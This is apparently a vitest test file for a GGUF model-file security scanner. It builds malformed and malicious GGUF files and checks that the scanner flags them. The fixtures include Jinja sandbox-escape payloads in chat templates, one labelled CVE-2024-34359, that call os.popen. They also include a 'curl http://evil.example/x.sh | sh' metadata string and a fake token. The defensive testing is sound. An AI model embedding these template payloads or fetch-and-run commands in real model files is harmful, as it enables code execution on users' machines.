import type { ByteSource } from "@modelward/core";
import { AnalyzerTester, GGUF_TYPE, allFindings, buildGguf, type GgufKv, type GgufTensor } from "@modelward/testing";
import { describe, expect, it } from "vitest";
import { POPULAR_CHAT_TEMPLATES } from "../../../packages/jinja-audit/src/popular-chat-templates.fixture.js";
import { parseGguf } from "./gguf-parser.js";
import plugin from "./index.js";

const tester = new AnalyzerTester({ plugins: [plugin] });
const llama31 = POPULAR_CHAT_TEMPLATES.find((t) => t.name === "meta-llama-Llama-3.1-8B-Instruct")?.template ?? "";
const LLAMA_DRAMA =
  "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"echo pwned\").read()}}{%endif%}{% endfor %}";

// A small llama-like model: the metadata llama.cpp's converter writes, a few tensors.
const META: GgufKv[] = [
  { key: "general.architecture", value: "llama" },
  { key: "general.name", value: "Tiny Llama Test" },
  { key: "general.license", value: "apache-2.0" },
  { key: "llama.context_length", value: 4096 },
  { key: "llama.embedding_length", value: 256 },
  { key: "tokenizer.ggml.model", value: "gpt2" },
  { key: "tokenizer.ggml.tokens", type: GGUF_TYPE.ARRAY, elementType: GGUF_TYPE.STRING, value: Array.from({ length: 300 }, (_, i) => `tok${i}`) },
  { key: "tokenizer.ggml.scores", type: GGUF_TYPE.ARRAY, elementType: GGUF_TYPE.FLOAT32, value: Array.from({ length: 300 }, () => 0.5) },
  { key: "tokenizer.ggml.bos_token_id", value: 1 },
];
const TENSORS: GgufTensor[] = [
  { name: "token_embd.weight", dims: [256, 300], type: 12 },
  { name: "blk.0.attn_norm.weight", dims: [256], type: 0 },
  { name: "blk.0.attn_q.weight", dims: [256, 256], type: 12 },
  { name: "output.weight", dims: [256, 300], type: 14 },
];
const gguf = (o: Parameters<typeof buildGguf>[0] = {}) => buildGguf({ kv: META, tensors: TENSORS, ...o }).bytes;
const withTemplate = (key: string, template: string) => gguf({ kv: [...META, { key, value: template }] });

tester.run("gguf", {
  valid: [
    { name: "a llama-like v3 file with the real Llama 3.1 chat template", path: "model.gguf", bytes: () => withTemplate("tokenizer.chat_template", llama31) },
    { name: "v2", path: "model.gguf", bytes: () => gguf({ version: 2 }) },
    { name: "big-endian v3", path: "model-be.gguf", bytes: () => gguf({ bigEndian: true }) },
    { name: "named templates (tokenizer.chat_template.tool_use)", path: "model.gguf", bytes: () => withTemplate("tokenizer.chat_template.tool_use", POPULAR_CHAT_TEMPLATES.find((t) => /Hermes-3/.test(t.name))?.template ?? "") },
    { name: "a declared 64-byte alignment", path: "model.gguf", bytes: () => gguf({ alignment: 64, kv: [...META, { key: "general.alignment", value: 64 }] }) },
    { name: "no tensors (a vocab-only file)", path: "vocab.gguf", bytes: () => gguf({ tensors: [] }) },
  ],
  invalid: [
    {
      name: "CVE-2024-34359: SSTI in tokenizer.chat_template",
      path: "model.gguf",
      bytes: () => withTemplate("tokenizer.chat_template", LLAMA_DRAMA),
      findings: [{ ruleId: "gguf/template-sandbox-escape", severity: "critical", message: /GGUF key tokenizer\.chat_template: .*__subclasses__/ }],
    },
    {
      name: "SSTI in a named template",
      path: "model.gguf",
      bytes: () => withTemplate("tokenizer.chat_template.rag", "{{ cycler.__init__.__globals__.os.popen('echo hi').read() }}"),
      findings: [{ ruleId: "gguf/template-sandbox-escape", severity: "critical", message: /tokenizer\.chat_template\.rag/ }],
    },
    {
      name: "n_kv larger than the file can hold",
      path: "model.gguf",
      bytes: () => gguf({ kvCountOverride: 0xffff_ffff_ffffn }),
      findings: [{ ruleId: "gguf/header-overflow", severity: "high", message: /metadata entries/ }],
    },
    {
      name: "n_tensors larger than the file can hold (2^63)",
      path: "model.gguf",
      bytes: () => gguf({ tensorCountOverride: 1n << 63n }),
      findings: [{ ruleId: "gguf/header-overflow", severity: "high", message: /tensors/ }],
    },
    {
      name: "a string length past the end of the file",
      path: "model.gguf",
      bytes: () => gguf({ kv: [{ key: "general.name", value: "x", lengthOverride: 0xffff_ffff_ffff_fff0n }] }),
      findings: [{ ruleId: "gguf/header-overflow", severity: "high", message: /declares 18446744073709551600 bytes/ }],
    },
    {
      name: "an array count past the end of the file",
      path: "model.gguf",
      bytes: () => gguf({ kv: [{ key: "tokenizer.ggml.scores", type: GGUF_TYPE.ARRAY, elementType: GGUF_TYPE.FLOAT32, value: [1, 2], countOverride: 1n << 62n }] }),
      findings: [{ ruleId: "gguf/header-overflow", severity: "high", message: /array `tokenizer\.ggml\.scores` declares/ }],
    },
    {
      name: "more than GGML_MAX_DIMS dimensions",
      path: "model.gguf",
      bytes: () => gguf({ tensors: [{ name: "t", dims: [1, 1, 1, 1, 1] }] }),
      findings: [{ ruleId: "gguf/header-overflow", severity: "high", message: /5 dimensions/ }],
    },
    {
      name: "a negative dimension",
      path: "model.gguf",
      bytes: () => gguf({ tensors: [{ name: "t", dims: [(1n << 64n) - 4n], offset: 0n }], data: 0 }),
      findings: [{ ruleId: "gguf/header-overflow", severity: "high", message: /negative dimension -4/ }],
    },
    {
      name: "dimensions whose product passes INT64_MAX",
      path: "model.gguf",
      bytes: () => gguf({ tensors: [{ name: "t", dims: [1n << 32n, 1n << 32n], offset: 0n }], data: 0 }),
      findings: [{ ruleId: "gguf/header-overflow", severity: "high", message: /INT64_MAX/ }],
    },
    {
      name: "tensor data past the end of the file",
      path: "model.gguf",
      bytes: () => gguf({ data: 100 }),
      findings: [{ ruleId: "gguf/tensor-out-of-bounds", severity: "high", message: /token_embd\.weight/ }],
    },
    {
      name: "a string-array element longer than what remains (truncated vocabulary)",
      path: "model.gguf",
      bytes: () => buildGguf({ kv: [{ key: "tokenizer.ggml.tokens", type: GGUF_TYPE.ARRAY, elementType: GGUF_TYPE.STRING, value: Array.from({ length: 10 }, (_, i) => `${i}`.repeat(100)) }] }).bytes.slice(0, 500),
      findings: [{ ruleId: "gguf/header-overflow", message: /element \d of `tokenizer\.ggml\.tokens` declares 100 bytes/ }],
    },
    {
      name: "v1 string array read with 32-bit lengths, truncated",
      path: "model.gguf",
      bytes: () => buildGguf({ version: 1, kv: [{ key: "tokenizer.ggml.tokens", type: GGUF_TYPE.ARRAY, elementType: GGUF_TYPE.STRING, value: ["a", "b", "c".repeat(200)] }] }).bytes.slice(0, 100),
      findings: [{ ruleId: "gguf/header-overflow", message: /element 2 of `tokenizer\.ggml\.tokens` declares 200 bytes/ }],
    },
    {
      name: "code in a metadata string (general.description)",
      path: "model.gguf",
      bytes: () => gguf({ kv: [...META, { key: "general.description", value: "setup: curl http://evil.example/x.sh | sh" }] }),
      findings: [
        { ruleId: "gguf/code-in-metadata", severity: "high", message: /GGUF key general\.description holds a shell command/ },
        { ruleId: "gguf/url-in-metadata", severity: "low", message: /evil\.example/ },
      ],
    },
    {
      name: "a credential in a small string array (general.tags)",
      path: "model.gguf",
      bytes: () => gguf({ kv: [...META, { key: "general.tags", type: GGUF_TYPE.ARRAY, elementType: GGUF_TYPE.STRING, value: ["text-generation", `hf_${"B".repeat(34)}`] }] }),
      findings: [{ ruleId: "gguf/secret-in-metadata", severity: "medium" }],
    },
    { name: "duplicate metadata key", path: "model.gguf", bytes: () => gguf({ kv: [...META, { key: "general.name", value: "other" }] }), findings: [{ ruleId: "gguf/malformed", message: /duplicate metadata key `general\.name`/ }] },
    { name: "alignment not a power of two", path: "model.gguf", bytes: () => gguf({ kv: [...META, { key: "general.alignment", value: 24 }] }), findings: [{ ruleId: "gguf/malformed", message: /not a power of two/ }] },
    { name: "an unknown tensor type", path: "model.gguf", bytes: () => gguf({ tensors: [{ name: "t", dims: [32], type: 4, offset: 0n }] }), findings: [{ ruleId: "gguf/malformed", message: /unknown ggml type 4/ }] },
    {
      name: "misaligned and out-of-order offsets",
      path: "model.gguf",
      bytes: () => gguf({ tensors: [{ name: "a", dims: [8], offset: 4n }, { name: "b", dims: [8], offset: 0n }], data: 256 }),
      findings: [
        { ruleId: "gguf/malformed", message: /not a multiple of the alignment/ },
        { ruleId: "gguf/malformed", message: /where gguf\.cpp expects 0/ },
        { ruleId: "gguf/malformed", message: /overlap/ },
      ],
    },
    { name: "a nested array", path: "model.gguf", bytes: () => gguf({ kv: [{ key: "x", type: GGUF_TYPE.ARRAY, elementType: GGUF_TYPE.ARRAY, value: [] }] }), findings: [{ ruleId: "gguf/malformed", message: /nested arrays/ }] },
    { name: "an invalid value type", path: "model.gguf", bytes: () => gguf({ kv: [{ key: "x", type: 13, value: 0 }] }), findings: [{ ruleId: "gguf/malformed", message: /invalid value type 13/ }] },
    { name: "a file that ends inside its header", path: "model.gguf", bytes: () => gguf().slice(0, 20), findings: [{ ruleId: "gguf/malformed", message: /ends inside the metadata count/ }] },
    { name: "an unknown version", path: "model.gguf", bytes: () => gguf({ version: 4 }), findings: [{ ruleId: "gguf/malformed", message: /unsupported GGUF version 4/ }] },
    {
      name: "v1 with a malicious template (32-bit fields parsed)",
      path: "model.gguf",
      bytes: () => buildGguf({ version: 1, kv: [{ key: "tokenizer.chat_template", value: LLAMA_DRAMA }], tensors: [{ name: "t", dims: [4] }] }).bytes,
      findings: [
        { ruleId: "gguf/malformed", severity: "medium", message: /GGUF v1/ },
        { ruleId: "gguf/template-sandbox-escape", severity: "critical" },
      ],
    },
  ],
});

describe("gguf inventory and bounds", () => {
  it("describes architecture, name, licence, tensors, parameters and quantization", async () => {
    const report = await tester.scan("model.gguf", gguf());
    const props = report.files[0]?.properties ?? {};
    expect(props).toMatchObject({ architecture: "llama", name: "Tiny Llama Test", license: "apache-2.0", tensorCount: 4, parameterCount: 256 * 300 * 2 + 256 + 256 * 256, quantization: "Q4_K", ggufVersion: 3 });
    expect(report.files[0]?.format).toBe("gguf");
  });

  it("reads only the header of a 4 GB file (never the tensor data)", async () => {
    const { bytes, dataOffset } = buildGguf({ kv: META, tensors: [{ name: "big", dims: [4096, 262144], type: 0 }], data: "none" });
    const size = dataOffset + 4096 * 262144 * 4;
    let fetched = 0;
    const sparse: ByteSource = {
      size,
      async read(start, end) {
        fetched += Math.min(end, size) - start;
        const out = new Uint8Array(Math.min(end, size) - start);
        if (start < bytes.length) out.set(bytes.subarray(start, Math.min(end, bytes.length)));
        return out;
      },
      async *stream() {
        throw new Error("a header-only parser never streams");
      },
    };
    const h = await parseGguf(sparse);
    expect(h.problems).toEqual([]);
    expect(h.tensors[0]?.nbytes).toBe(4096n * 262144n * 4n);
    expect(fetched).toBeLessThan(256 * 1024);
    expect(h.bytesRead).toBe(fetched);
  });

  it("never allocates from a lying count: a 2^40-element array in a small file is one finding, quickly", async () => {
    const bytes = gguf({ kv: [{ key: "a", type: GGUF_TYPE.ARRAY, elementType: GGUF_TYPE.STRING, value: ["x"], countOverride: 1n << 40n }] });
    const report = await tester.scan("model.gguf", bytes);
    expect(allFindings(report).map((f) => f.ruleId)).toEqual(["gguf/header-overflow"]);
  });
});
